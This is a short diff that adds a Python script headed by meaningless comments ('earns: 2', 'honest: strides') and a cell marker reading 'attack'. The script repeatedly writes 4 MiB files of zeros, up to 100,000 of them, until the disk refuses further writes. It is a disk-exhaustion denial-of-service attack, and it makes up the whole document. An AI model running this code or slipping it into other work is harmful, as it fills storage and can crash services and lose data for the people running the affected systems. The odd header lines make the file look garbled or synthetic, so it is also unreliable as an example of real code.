@@ -1,0 +1,11 @@
+# earns: 2
+# honest: strides
+# %% attack
+import time
+for number in range(100_000):
+    try:
+        with open(f"full-{number}", "wb") as file:
+            file.write(bytes(1 << 22))
+    except OSError:
+        break
+    time.sleep(0.001)
